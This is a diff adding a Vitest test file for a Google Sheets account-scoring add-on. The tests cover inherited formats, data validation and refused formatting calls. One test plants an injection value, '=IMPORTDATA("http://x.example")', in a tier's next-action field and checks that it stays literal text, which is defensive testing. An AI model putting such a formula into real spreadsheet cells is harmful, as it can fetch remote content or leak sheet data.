@@ -1,0 +1,188 @@
+import { describe, expect, it } from 'vitest';
+import type { CellValue } from '../../src/host/core/api';
+import type { Area } from '../../src/host/core/cells/a1';
+import type { Document } from '../../src/host/core/document';
+import type { SavedWorkbook } from '../../src/host/core/saved-workbook';
+import { handsOn } from '../journeys/support/hands';
+import { definitionWith, smallDefinition } from '../support/definitions';
+import { accountsTab, configTab, openDefined, ROWS } from './support/defined-workbook';
+import { listening } from './support/dialogs';
+import { openAddon, openSample } from './support/open-addon';
+import { picture } from './support/picture';
+import { withoutColumns } from './support/without-columns';
+
+const places = ['a full grid', 'free columns'] as const;
+
+const FORMATS = ['Range.setNumberFormats', 'RangeList.setNumberFormat'];
+const LOOKS = [
+  ...FORMATS,
+  'RangeList.setFontWeight',
+  'RangeList.setBackground',
+  'Sheet.setColumnWidths',
+  'Sheet.insertChart',
+];
+const OWN = ['M', 'N', 'O', 'P', 'Q', 'R', 'S'];
+
+/** Keeps all but some texts out of an area, as a drop-down does. */
+function only({ desk }: Document, area: Area, values: readonly string[]): void {
+  desk.extras(desk.sheetNamed('Accounts').getSheetId()).validate(area, {
+    criteria: { type: 'VALUE_IN_LIST', values },
+    allowInvalid: false,
+    helpText: '',
+    showDropdown: true,
+  });
+}
+
+function rulesIn(range: GoogleAppsScript.Spreadsheet.Range) {
+  return range.getDataValidations().flat().filter(Boolean);
+}
+
+/** The small list, and its tab as its user has it. */
+async function openList() {
+  const addon = await openDefined();
+  const sheet = handsOn(addon.document).spreadsheet.getSheetByName('Accounts')!;
+  return { ...addon, sheet };
+}
+
+/** A list whose last column, or the free ones beside it too, hold plain text from a short list only. */
+async function openChosen(where: (typeof places)[number]) {
+  const addon = await openList();
+  const { sheet } = addon;
+  const isFull = where === 'a full grid';
+  if (isFull) sheet.deleteColumns(13, sheet.getMaxColumns() - 12);
+  const columns = isFull ? 1 : 15;
+  sheet.getRange(1, 12, 1000, columns).setNumberFormat('@');
+  only(addon.document, { row: 1, column: 12, rows: 1000, columns }, ['Notes', 'Yes', 'No']);
+  return addon;
+}
+
+describe('what columns of ours inherit, they do not keep', () => {
+  it.each(places)('by Score accounts, in %s', async (where) => {
+    const { run, host, sheet, alerts } = await openChosen(where);
+    await run('Score accounts');
+    expect(alerts).toEqual([]);
+    const shown = host.displayValues('Accounts').map((row) => row.slice(12, 15));
+    expect(shown.slice(0, 3)).toEqual([
+      ['ICP Score', 'ICP Tier', 'ICP Coverage'],
+      ['100', 'Tier 1', '100%'],
+      ['0', 'Not ICP', '62%'],
+    ]);
+    expect(rulesIn(sheet.getRange('M2:S900'))).toEqual([]);
+    expect(sheet.getRange('M2').getNumberFormat()).not.toBe('@');
+    expect(sheet.getRange('M900').getNumberFormat()).not.toBe('@');
+    expect(sheet.getRange('L5').getDataValidation()).not.toBeNull();
+    expect(sheet.getRange('L5').getNumberFormat()).toBe('@');
+  });
+
+  it('and a rule that a person sets on one of ours stays', async () => {
+    const { run, document, sheet } = await openList();
+    await run('Score accounts');
+    const tiers = ['Tier 1', 'Tier 2', 'Not ICP', 'Excluded'];
+    only(document, { row: 2, column: 14, rows: 5, columns: 1 }, tiers);
+    sheet.getRange('M2:M6').setNumberFormat('0.00');
+    await run('Score accounts');
+    expect(sheet.getRange('N3').getDataValidation()).not.toBeNull();
+    expect(sheet.getRange('M2').getDisplayValue()).toBe('100.00');
+  });
+
+  it.each(places)('by Insert score formulas, in %s', async (where) => {
+    const { run, host, sheet, alerts } = await openChosen(where);
+    await run('Insert score formulas');
+    expect(alerts).toEqual([]);
+    expect(host.formula('Accounts', 'M1')).toContain('=ICP_REPORT(');
+    expect(host.displayValues('Accounts')[1]?.slice(12, 15)).toEqual(['100', 'Tier 1', '100%']);
+    expect(rulesIn(sheet.getRange('M1:T9'))).toEqual([]);
+    expect(sheet.getRange('L5').getDataValidation()).not.toBeNull();
+  });
+});
+
+describe('looks that Sheets refuses', () => {
+  it('do not keep Score accounts from its scores, and no text becomes a formula', async () => {
+    const evil = '=IMPORTDATA("http://x.example")';
+    const definition = definitionWith({
+      tiers: smallDefinition.tiers.map((tier) => ({
+        ...tier,
+        name: `=${tier.name}`,
+        nextAction: evil,
+      })),
+      criteria: smallDefinition.criteria.map((one) => ({ ...one, name: `+${one.id}` })),
+    });
+    const addon = await openAddon([accountsTab(), configTab('ICP Config', definition)]);
+    const { host, run, document, toasts, alerts } = addon;
+    const before = picture(document);
+    host.refuse('Accounts', FORMATS, 'Typed column');
+    await run('Score accounts');
+    expect(alerts).toEqual([]);
+    expect(toasts.at(-1)).toMatch(
+      /Not set: number formats \(Typed column\)\. All else is there\.$/,
+    );
+    const [headers = [], ...rows] = host.values('Accounts');
+    expect(rows[0]?.[headers.indexOf('ICP Tier')]).toBe('=Tier 1');
+    expect(rows[0]?.[headers.indexOf('ICP Next Action')]).toBe(evil);
+    for (let row = 1; row <= ROWS.length + 1; row++) {
+      for (const letter of OWN) expect(host.formula('Accounts', `${letter}${row}`)).toBe('');
+    }
+    expect(withoutColumns(picture(document).tabs.Accounts, OWN)).toEqual(
+      withoutColumns(before.tabs.Accounts, []),
+    );
+    await run('Score accounts');
+    expect(toasts.at(-1)).toContain('None in another tier than before.');
+  });
+
+  it('do not keep Insert score formulas from its formula', async () => {
+    const { host, run, toasts, alerts } = await openDefined();
+    host.refuse('Accounts', [...FORMATS, 'RangeList.clearDataValidations'], 'Typed column');
+    await run('Insert score formulas');
+    expect(alerts).toEqual([]);
+    expect(host.displayValues('Accounts')[1]?.[13]).toBe('Tier 1');
+    expect(toasts.at(-1)).toContain(
+      'Not set: data validations, number formats (Typed column). All else is there.',
+    );
+  });
+
+  it.each([
+    ['Backtest', ['ICP Backtest', 'ICP Backtest Runs'], ', charts'],
+    ['Discover patterns', ['ICP Patterns'], ', charts'],
+    ['Compare…', ['ICP Compare'], ''],
+  ])('do not keep %s from its report', async (item, tabs, charts) => {
+    const open = async () => {
+      const told = listening();
+      const prompt = () => ({ button: 'OK', text: 'current, v1' }) as const;
+      const addon = await openAddon(await sample(), { dialogs: { ...told.dialogs, prompt } });
+      return { ...addon, ...told };
+    };
+    const [plain, addon] = [await open(), await open()];
+    await plain.run(item);
+    for (const tab of ['ICP unfinished', 'ICP Backtest Runs']) {
+      addon.host.refuse(tab, LOOKS, 'Unknown option');
+    }
+    await addon.run(item);
+    expect(addon.alerts).toEqual([]);
+    expect(addon.toasts.at(-1)).toContain(
+      `Not set: number formats, colours and widths${charts} (Unknown option). All else is there.`,
+    );
+    for (const name of tabs) {
+      expect(withoutDays(addon.host.values(name))).toEqual(withoutDays(plain.host.values(name)));
+    }
+    expect(addon.host.sheetNames()).toEqual(plain.host.sheetNames());
+    expect(addon.host.activeSheet()).toBe(tabs[0]);
+  });
+});
+
+let saved: SavedWorkbook | undefined;
+
+async function sample(): Promise<SavedWorkbook> {
+  saved ??= (await openSample()).document.save();
+  return saved;
+}
+
+/** Without its format a day is a number. */
+function withoutDays(values: readonly (readonly CellValue[])[]) {
+  const plain = (value: CellValue) =>
+    isDay(value) ? value.getTime() / 86_400_000 + 25_569 : value;
+  return values.map((row) => row.map(plain));
+}
+
+function isDay(value: CellValue): value is Date {
+  return Object.prototype.toString.call(value) === '[object Date]';
+}
